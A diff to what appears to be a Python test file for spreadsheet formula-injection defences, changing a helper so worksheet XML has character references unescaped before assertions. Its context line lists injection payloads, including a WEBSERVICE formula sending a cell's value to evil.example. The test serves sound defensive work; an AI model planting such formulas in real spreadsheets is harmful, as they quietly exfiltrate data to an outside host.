@@ -200,9 +200,13 @@ INJECTIONS = ['=WEBSERVICE("http://evil.example/?q="&B5)', '=HYPERLINK("http://x
 
 
 def _sheet_xml(path: Path) -> str:
+    """The worksheets' XML with character references resolved (openpyxl
+    writes "«" as "&#171;" when it serialises with lxml)."""
+    import html
+
     with zipfile.ZipFile(path) as archive:
-        return "".join(archive.read(n).decode("utf-8") for n in archive.namelist()
-                       if n.startswith("xl/worksheets/"))
+        return html.unescape("".join(archive.read(n).decode("utf-8") for n in archive.namelist()
+                                     if n.startswith("xl/worksheets/")))
 
 
 @pytest.mark.parametrize("text", INJECTIONS)
